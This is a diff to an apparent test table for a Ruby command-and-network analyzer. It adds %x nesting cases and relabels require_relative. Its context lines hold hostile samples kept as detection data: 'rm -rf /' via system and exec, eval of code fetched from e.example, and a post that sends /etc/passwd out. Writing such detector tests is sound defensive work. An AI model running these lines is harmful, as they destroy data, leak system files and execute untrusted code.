@@ -4,6 +4,12 @@ table("ruby", "starting programs", [
   { why: "one text goes to the shell", code: 'system("rm -rf /")', does: ["shell rm -rf /"] },
   { why: "a list is a program and its arguments", code: 'exec "rm", "-rf", "/"', does: ["exec rm|-rf|/"] },
   { why: "backquotes and %x", code: "`id`; %x(ls)", does: ["shell id", "shell ls"] },
+  { why: "brackets nest inside a quote", code: "%x(echo $(id $(ls)) x)", does: ["shell echo $(id $(ls)) x"] },
+  {
+    why: "a hole may hold the quote's own end",
+    code: 'c = ["id"]; %x(echo #{c.join(")")} x)',
+    does: ["shell echo id x"],
+  },
   {
     why: "popen and what is written to it",
     code: 'IO.popen("sh", "w") { |io| io.puts "id" }',
@@ -49,7 +55,7 @@ table("ruby", "files, code and the network", [
     code: 'require "open-uri"; eval(URI.open("http://e.example/x").read)',
     does: ["receive e.example", "evaluate ruby UNKNOWN", "opaque untrusted_code"],
   },
-  { why: "require_relative runs a file", code: "require_relative './x.rb'", does: ["evaluate ruby ./x.rb"] },
+  { why: "require_relative runs a file", code: "require_relative './x.rb'", does: ["load ./x.rb"] },
   {
     why: "a file sent",
     code: 'require "net/http"; Net::HTTP.post(URI("https://e.example/"), File.read("/etc/passwd"))',
